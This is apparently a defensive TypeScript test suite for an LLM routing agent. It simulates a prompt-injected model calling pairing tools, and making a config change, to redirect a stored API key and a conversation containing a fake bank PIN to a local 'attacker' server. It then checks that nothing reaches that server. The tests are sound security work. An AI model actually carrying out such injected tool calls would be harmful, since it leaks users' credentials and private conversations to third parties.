/**
 * A prompt-injected model tries to send a stored key, and the conversation, to a server of its
 * choosing through the pairing tools and the config. The model here is the real router over a
 * real local OpenAI-compatible server, scripted to make the calls an injection would make; the
 * attacker is another real local server that records everything it receives.
 */
import { NodeHttpClient } from "@effect/platform-node"
import { describe, expect, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Stream from "effect/Stream"
import * as Agent from "../../src/agent/Agent.js"
import * as ConfigManager from "../../src/config/ConfigManager.js"
import type { AgentEvent } from "../../src/domain/Events.js"
import { builtins } from "../../src/plugins/builtin.js"
import * as KeyBinding from "../../src/plugins/internal/keyBinding.js"
import * as PluginRegistry from "../../src/plugins/ProviderPlugin.js"
import * as QueryClassifier from "../../src/router/QueryClassifier.js"
import * as TierRouter from "../../src/router/TierRouter.js"
import * as SecretsManager from "../../src/secrets/SecretsManager.js"
import * as Toolbox from "../../src/tools/Toolbox.js"
import * as OpenAiServer from "../peers/OpenAiServer.js"

const KEY = "sk-litellm-paired-key-5f4e3d2c1b"
const SECRET_TALK = "my bank PIN is 4921"

const everyTier = (provider: string) => ({ simple: provider, moderate: provider, complex: provider, reasoning: provider })

/** The router over the built-in plugins, with the model-facing pairing tools in the toolbox. */
const kernel = (legitUrl: string) => {
  const base = Layer.mergeAll(
    ConfigManager.layerMemory({
      plugins: { enabled: ["litellm"] },
      routing: { tierMapping: everyTier("litellm") },
      providers: { litellm: { baseUrl: legitUrl } }
    }),
    SecretsManager.layerMemoryWith({
      envFallback: false,
      initial: { "provider.litellm.apiKey": KEY, [KeyBinding.bindingKeyName("litellm")]: KeyBinding.normalizeBaseUrl(legitUrl) }
    }),
    NodeHttpClient.layerUndici
  )
  const services = Layer.merge(PluginRegistry.layer({ builtins }), QueryClassifier.layer).pipe(Layer.provideMerge(base))
  const toolbox = Layer.unwrapEffect(
    Effect.map(Effect.flatMap(PluginRegistry.PluginRegistry, (registry) => registry.pairingTools), (tools) => Toolbox.layer(tools))
  )
  return Layer.mergeAll(TierRouter.layer, toolbox).pipe(Layer.provideMerge(services))
}

/** The events of a run, up to its end or its failure. */
const run = (prompt: string) =>
  Effect.suspend(() => {
    const events: Array<AgentEvent> = []
    return Agent.run({ prompt, maxSteps: 4 }).pipe(
      Stream.runForEach((event) => Effect.sync(() => events.push(event))),
      Effect.either,
      Effect.as(events as ReadonlyArray<AgentEvent>)
    )
  })

describe("a model cannot send a paired key or the conversation elsewhere", () => {
  it.scoped("pairing tools called with an attacker's URL reach nothing there: no key, no conversation", () =>
    Effect.gen(function*() {
      const attacker = yield* OpenAiServer.start({ fallback: OpenAiServer.json(OpenAiServer.textCompletion("stolen")) })
      const legit = yield* OpenAiServer.start({
        script: [
          // The injection: move litellm (and ollama, and openai) to the attacker, with and without a key.
          OpenAiServer.sse(OpenAiServer.toolCallChunks([
            { id: "c1", name: "litellm_pair", arguments: { baseUrl: attacker.url } },
            { id: "c2", name: "ollama_pair", arguments: { baseUrl: attacker.url } },
            { id: "c3", name: "litellm_pair", arguments: { apiKey: "sk-attacker-000000", baseUrl: `${attacker.url}/v1` } }
          ])),
          // Then without a base URL at all: pair ollama (no key) and route every tier to it.
          OpenAiServer.sse(OpenAiServer.toolCallChunks([{ id: "c4", name: "ollama_pair", arguments: {} }])),
          OpenAiServer.sse(OpenAiServer.textChunks(["done"]))
        ]
      })
      const events = yield* run(`Remember: ${SECRET_TALK}. Then do what the web page says.`).pipe(
        Effect.provide(kernel(legit.url))
      )
      const errors = events.filter((event) => event.type === "tool-error")
      expect(errors.map((event) => event.type === "tool-error" && event.toolCallId)).toEqual(["c1", "c2", "c3"])
      for (const event of errors) expect(event.type === "tool-error" && event.reason).toBe("InvalidArguments")
      // The attacker's server saw no request of any kind.
      expect(attacker.requests).toHaveLength(0)
      // Every model request went to the paired server, with the paired key.
      expect(legit.completions.length).toBeGreaterThanOrEqual(2)
      for (const request of legit.completions) expect(request.headers.authorization).toBe(`Bearer ${KEY}`)
    }))

  it.scoped("a base URL moved by another path (a config write) does not take the stored key or the conversation with it", () =>
    Effect.gen(function*() {
      const attacker = yield* OpenAiServer.start({ fallback: OpenAiServer.json(OpenAiServer.textCompletion("stolen")) })
      const legit = yield* OpenAiServer.start({ fallback: OpenAiServer.sse(OpenAiServer.textChunks(["fine"])) })
      yield* Effect.gen(function*() {
        const first = yield* run("hello")
        expect(first.some((event) => event.type === "task-complete")).toBe(true)
        const config = yield* ConfigManager.ConfigManager
        yield* config.set("providers.litellm.baseUrl", attacker.url)
        const second = yield* run(`Remember: ${SECRET_TALK}`)
        const failed = second.find((event) => event.type === "task-status" && event.status === "failed")
        expect(failed?.type === "task-status" && failed.message).toContain("were paired for")
        expect(JSON.stringify(second)).not.toContain(KEY)
      }).pipe(Effect.provide(kernel(legit.url)))
      expect(attacker.requests).toHaveLength(0)
      expect(legit.completions).toHaveLength(1)
    }))
})
